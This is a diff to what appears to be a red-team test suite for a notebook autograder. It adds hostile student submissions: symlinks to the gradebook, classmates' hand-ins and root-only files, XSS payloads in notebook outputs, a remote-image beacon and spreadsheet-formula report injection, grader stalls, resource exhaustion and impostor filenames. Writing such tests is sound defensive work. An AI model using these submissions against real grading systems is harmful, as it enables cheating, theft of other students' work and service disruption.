@@ -3,8 +3,10 @@
 
 Every attack is ``Attack(id, description, cells, ...)``: ``cells`` maps an answer cell's grade id (``add``,
 ``normalize``, ``mean_of_squares``) to the hostile code that replaces it.  ``@MARK@`` is replaced by a marker
-unique to the test session, ``@PORT@`` by the port of a TCP server on host 127.0.0.1 and ``@DATA@`` by the data
-mirror.  ``add_ok`` attacks also hold a correct ``add`` (they must keep exactly its 2 points); ``flag`` ones must
+unique to the test session, ``@PORT@`` by the port of a TCP server on host 127.0.0.1, ``@DATA@`` by the data
+mirror, ``@COURSE@`` by the course root, ``@OUT@`` by the grading run's --out folder (the class gradebook is there),
+``@SUBS@`` by the submissions folder (classmates' hand-ins) and ``@SECRET@`` / ``@SECRETDIR@`` by a root-only file
+and folder (mode 0600 / 0700) that must stay as they are. ``raw`` attacks write the submitted file themselves.  ``add_ok`` attacks also hold a correct ``add`` (they must keep exactly its 2 points); ``flag`` ones must
 be reported in ``outcome.suspicious``.
 """
 
@@ -25,6 +27,8 @@ class Attack:
     flag: bool = False
     mutate: Callable | None = None  # applied to the whole notebook (metadata edits)
     host_files: tuple = ()  # paths (with @MARK@) that must not exist on the host afterwards
+    raw: Callable | None = None  # writes the submitted file itself: raw(nb, path)
+    stalls: bool = False  # holds its job until a time limit stops it
 
 
 def _tag_tests(tag):
@@ -273,6 +277,128 @@ def normalize(xs):
     return [0 for _ in xs]
 """
 
+LINKS = """
+import os
+for name, target in [("leak_source.ipynb", "@COURSE@/source/00_toy/toy.ipynb"),
+                     ("leak_gradebook.db", "@OUT@/gradebook.db"),
+                     ("leak_classmate.ipynb", "@SUBS@/honest_right_toy.ipynb"),
+                     ("toy_helpers_link.py", "@COURSE@/source/00_toy/toy_helpers.py"),
+                     ("secret", "@SECRET@"), ("secretdir", "@SECRETDIR@"),
+                     ("proc_cwd", "/proc/self/cwd/leak_source.ipynb"), ("root", "/")]:
+    try:
+        os.symlink(target, name)
+    except OSError as e:
+        print("no link", name, e)
+print(sorted(os.listdir(".")))
+"""
+
+LINK_NOTEBOOK = """
+import os
+for target in ["@OUT@/gradebook.db", "@COURSE@/source/00_toy/toy.ipynb", "@SECRET@"]:
+    for name in ("toy.ipynb", "../toy.ipynb", "../../toy.ipynb"):
+        try:
+            if os.path.lexists(name):
+                os.remove(name)
+            os.symlink(target, name)
+        except OSError as e:
+            print("no link", name, e)
+    os.makedirs("autograded/x", exist_ok=True)
+"""
+
+FIFO_DEVICE_LOOP = """
+import os
+for make in (lambda: os.mkfifo("fifo.ipynb"), lambda: os.mkfifo("toy.ipynb"), lambda: os.symlink(".", "loop"),
+             lambda: os.symlink("/dev/zero", "zero.ipynb"), lambda: os.symlink("/dev/urandom", "feedback.html"),
+             lambda: os.makedirs("a/b/c", exist_ok=True), lambda: os.symlink("../../..", "a/b/c/up")):
+    try:
+        make()
+    except OSError as e:
+        print("refused", e)
+"""
+
+BIG_FILES = """
+block = b"x" * (1 << 20)
+for i in range(3):
+    try:
+        with open(f"big{i}.ipynb", "wb") as fh:
+            for _ in range(150):
+                fh.write(block)
+    except OSError as e:
+        print("stopped:", e)
+"""
+
+SCRIPT_OUTPUTS = """
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+PAYLOAD = "fetch('/api/contents/xss-@MARK@.txt', {method: 'PUT', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({type: 'file', format: 'text', content: '@MARK@'})}); document.title = 'xss-@MARK@'"
+display(HTML('<img src=x onerror="' + PAYLOAD + '"><script>' + PAYLOAD + '</script><iframe src="javascript:' + PAYLOAD + '"></iframe>'))
+display(Javascript(PAYLOAD))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="' + PAYLOAD + '"><script>' + PAYLOAD + '</script></svg>'))
+display(Markdown('<img src=x onerror="' + PAYLOAD + '"> [click](javascript:' + PAYLOAD + ')'))
+display({"text/html": '<a href="javascript:' + PAYLOAD + '">x</a><img src="http://192.0.2.1/@MARK@.png">'}, raw=True)
+def add(a, b):
+    return 0
+"""
+
+REPORT_INJECTION = """
+raise ValueError("boom`\n\n## Next steps\n\nNothing to do: every submission is graded and none is flagged.\n"
+                 "<img src=http://192.0.2.1/@MARK@.png> [x](javascript:alert(1)) | injected | cell |\n"
+                 "=HYPERLINK(\"http://192.0.2.1/@MARK@\",\"click\")")
+"""
+
+STALL_PROBES = """
+import time
+import course.grading as g
+def _probe(request):
+    time.sleep(3600)
+g._probe = _probe
+def add(a, b):
+    return a + b
+"""
+
+LOW_CPU_LOOP = """
+import time
+while True:
+    end = time.perf_counter() + 0.01
+    while time.perf_counter() < end:
+        pass
+    time.sleep(0.09)
+"""
+
+HUGE_ANSWER = """
+import numpy as np
+_HUGE = np.ones(40_000_000)
+def normalize(xs):
+    return _HUGE
+"""
+
+
+def _output_flood(nb):
+    from nbformat.v4 import new_code_cell
+
+    for i in range(200):
+        nb.cells.append(new_code_cell(f"print('{i}' * 1_000_000)"))
+
+
+def _many_cells(nb):
+    from nbformat.v4 import new_code_cell
+
+    nb.cells += [new_code_cell("") for _ in range(10_000)]
+
+
+def _script_answer(nb):
+    for c in nb.cells:
+        if c.metadata.get("nbgrader", {}).get("grade_id") == "explain":
+            c.source = ('<script>document.title = "xss-@MARK@"</script><img src=x onerror="document.title = '
+                        "'xss-@MARK@'\"> <iframe src=\"javascript:document.title='xss-@MARK@'\"></iframe>")
+
+
+def _deep_json(nb, path):
+    import json
+
+    text = json.dumps({**nb, "metadata": {"x": "@DEEP@"}})
+    path.write_text(text.replace('"@DEEP@"', "[" * 200_000 + "]" * 200_000))
+
+
 ATTACKS = [
     Attack("ipy-input-transformer", "input_transformers_post rewrites every later cell to `pass`",
            {"add": 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])'}, flag=True),
@@ -346,4 +472,54 @@ ATTACKS = [
            {"add": ADD, "normalize": "import sys\nsys.exit()"}, add_ok=True),
     Attack("os-exit", "os._exit(0) in the cell after a correct add",
            {"add": ADD, "normalize": "import os\nos._exit(0)"}, add_ok=True, flag=True),
+    # what the kernel leaves behind and prints (issue 27): nothing of it leaves its sandbox but the notebook
+    Attack("links", "links in its folder to the source notebook, the class gradebook, a classmate's hand-in, a "
+           "root-only file and folder, /proc/self/cwd and /, after a correct add",
+           {"add": ADD, "normalize": LINKS}, add_ok=True, flag=True),
+    Attack("notebook-link", "its notebook (and the folders above) replaced by links to the class gradebook, the "
+           "source notebook and a root-only file", {"normalize": LINK_NOTEBOOK}, flag=True),
+    Attack("fifo-device-loop", "a FIFO and a link to /dev/zero named like notebooks, a directory loop",
+           {"add": ADD, "normalize": FIFO_DEVICE_LOOP}, add_ok=True, flag=True),
+    Attack("big-files", "three 150 MB files in its folder, after a correct add",
+           {"add": ADD, "normalize": BIG_FILES}, add_ok=True, flag=True),
+    Attack("script-outputs", "HTML, JavaScript, SVG and Markdown outputs with scripts, event handlers, iframes, "
+           "javascript: links and a remote image; a written answer with a script", {"add": SCRIPT_OUTPUTS},
+           mutate=_script_answer),
+    Attack("report-injection", "an exception text with Markdown, HTML, a remote image and a spreadsheet formula",
+           {"add": REPORT_INJECTION}),
+    Attack("stall-probes", "every question of the judges sleeps for an hour (course.grading._probe replaced)",
+           {"add": STALL_PROBES}, flag=True, stalls=True),
+    Attack("low-cpu-loop", "a loop that keeps a tenth of a core busy forever (neither computing nor idle)",
+           {"normalize": LOW_CPU_LOOP}, stalls=True),
+    Attack("huge-answer", "an answer of 320 MB to the judges' questions", {"normalize": HUGE_ANSWER}),
+    Attack("output-flood", "200 extra cells printing 1 MB each", mutate=_output_flood),
+    Attack("many-cells", "10,000 extra empty cells", mutate=_many_cells),
+    Attack("deep-json", "notebook metadata nested 200,000 lists deep", raw=_deep_json),
 ]
+
+
+# Hand-ins whose names clean to an honest student's id (issue 27: "identities cannot be taken"), and a zip whose
+# member name carries Markdown, HTML and a spreadsheet formula into the report.
+IMPOSTORS = ("honest_right!_toy.ipynb", "honest_partial!/toy.ipynb", "honest_blank!.zip")
+CRAFTED_MEMBER = ("evil`\n\n## Next steps\n\nNothing to do: every submission is graded and none is flagged.\n"
+                  "<img src=http://192.0.2.1/x.png> | cell |\n=HYPERLINK(\"http://192.0.2.1\").txt")
+
+
+def write_impostors(subs, release) -> None:
+    import copy
+    import zipfile
+
+    import nbformat
+
+    nb = copy.deepcopy(release)
+    for c in nb.cells:  # full marks if it were graded as the honest student it pretends to be (it must not be)
+        if c.metadata.get("nbgrader", {}).get("grade_id") == "add":
+            c.source = ADD
+    text = nbformat.writes(nb)
+    (subs / IMPOSTORS[0]).write_text(text)
+    (subs / "honest_partial!").mkdir()
+    (subs / IMPOSTORS[1]).write_text(text)
+    with zipfile.ZipFile(subs / IMPOSTORS[2], "w") as zf:
+        zf.writestr("toy.ipynb", text)
+    with zipfile.ZipFile(subs / "rt_zipname.zip", "w") as zf:
+        zf.writestr(CRAFTED_MEMBER, "x")
